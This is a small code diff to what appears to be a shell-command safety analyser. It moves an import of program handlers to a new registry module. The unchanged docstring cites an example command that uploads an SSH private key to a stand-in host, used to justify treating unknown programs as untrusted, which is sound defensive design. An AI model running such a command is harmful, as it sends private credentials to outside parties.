@@ -3,7 +3,7 @@
 An unknown program is not allowed by default on the grounds that nothing bad is known
 about it (issue #13): ``mytool --upload ~/.ssh/id_rsa drop.example`` can read the key
 and send it, so it is judged as reading every path and talking to every host it is given.
-Programs with a model (``shell_programs.HANDLERS``, the file readers) and programs that
+Programs with a model (``programs.registry.HANDLERS``, the file readers) and programs that
 only work on local files (compilers, formatters, test runners) are left to their models.
 """
 
@@ -13,8 +13,8 @@ import re
 from dataclasses import dataclass, field
 
 from bastion.understand import shell_catalog as cat
+from bastion.understand.programs.registry import HANDLERS
 from bastion.understand.shell_model import ShellAnalysis
-from bastion.understand.shell_programs import HANDLERS
 
 # Programs that work on local files and never talk to the network on their own; their
 # path arguments are the workspace they build, check or format.
